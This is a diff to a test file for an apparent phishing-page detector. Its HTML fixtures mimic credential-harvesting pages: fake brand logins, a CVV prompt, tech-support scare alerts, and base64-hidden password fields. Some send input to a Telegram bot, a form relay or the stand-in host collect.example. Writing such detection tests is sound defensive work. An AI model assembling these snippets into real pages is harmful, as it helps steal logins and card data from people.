@@ -20,29 +20,16 @@ const PAGES: Record<Exclude<PageRuleId, 'known.content' | 'check.unfinished'>, s
   'brand.logo': '\n<img class="logo" src="https://www.netflix.com/x.png">',
   'brand.image': '\n<img alt="PayPal" src="data:image/png;base64,AA==">',
   'brand.copyright': '\n<footer>Copyright (C) 2026 Mizuho Bank, Ltd.</footer>',
-  'brand.links': '\n<a href="https://www.docomo.ne.jp/">x</a>'.padEnd(2).repeat(5),
   'brand.source': '\n<!-- saved from url=(0029)https://login.rakuten-card.co.jp/x -->',
   'page.login': '\n<title>Webmail Login</title><form method="post"><input type="password"></form>',
   'page.support-alert':
     '\n<h1>ウイルスに感染しています</h1><p>電源を切らないでください 050-1234-5678</p><audio autoplay src="a.mp3">',
-  'target.form': '\n<form action="https://collect.example/a">',
-  'target.request': "\n<script>fetch('https://collect.example/a')</script>",
   'target.chat-hook': "\n<script>fetch('https://api.telegram.org/bot1:A/sendMessage')</script>",
   'target.form-relay': '\n<form action="https://formspree.io/f/a">',
   'clone.saved-page': '\n<!-- saved from url=(0020)https://example.com/ -->',
-  'clone.copier': '\n<!-- Mirrored from example.com by HTTrack Website Copier -->',
-  'evasion.developer-tools': '\n<body oncontextmenu="return false">',
-  'evasion.hidden-form': `\n<script>write(atob('${Buffer.from('<b>x</b><input type="password">').toString('base64')}'))</script>`,
-  'evasion.encoded-page': `\n<script>write(atob('${Buffer.from('<p>いろはにほへと</p>'.repeat(30)).toString('base64')}'))</script>`,
   'evasion.amount': `\n${'<input>'.repeat(5_001)}`,
-  'evasion.redirect': '\n<meta http-equiv="refresh" content="0; url=https://example.com/">',
 };
-const LINES: Partial<Record<PageRuleId, number>> = {
-  'brand.links': 6,
-  'evasion.encoded-page': 1,
-  'page.support-alert': 1,
-  'evasion.amount': 1,
-};
+const LINES: Partial<Record<PageRuleId, number>> = { 'page.support-alert': 1, 'evasion.amount': 1 };
 
 const MIB = 1024 * 1024;
 const fill = (part: string): string => part.repeat(Math.floor(MIB / part.length));
@@ -279,6 +266,15 @@ describe('checkPage', () => {
       'a log-in of a brand that is not known',
       '<title>Log in | Kinoko Bank</title><form action="https://x.example/"><input type="password"></form>',
     ],
+    ['a sent password alone', '<form method="post"><input name="user"><input type="password"></form>'],
+    [
+      'a short page that asks in its text',
+      '<title>VoteRank</title><p>Sign in to complete the poll</p><form action="p.php"><input type="password"></form>',
+    ],
+    [
+      'a card on a page that only asks for it',
+      '<h1>Verify your billing</h1><form action="c.php"><input name="cvv"></form>',
+    ],
     [
       'a support alert in English',
       '<h1>Virus detected</h1><p>Do not close this window. Call +1-888-555-0100</p><script>x.requestFullscreen()</script>',
@@ -288,10 +284,6 @@ describe('checkPage', () => {
     [
       'a field whose input goes to a chat',
       '<input type="password"><script>fetch("https://api.telegram.org/bot1:A/sendMessage")</script>',
-    ],
-    [
-      'a hidden field on a page that blocks developer tools',
-      `<body oncontextmenu="return false"><script>write(atob('${btoa('<b>x</b><input type="password">')}'))</script>`,
     ],
     [
       'a name in the title, and a relay of forms',
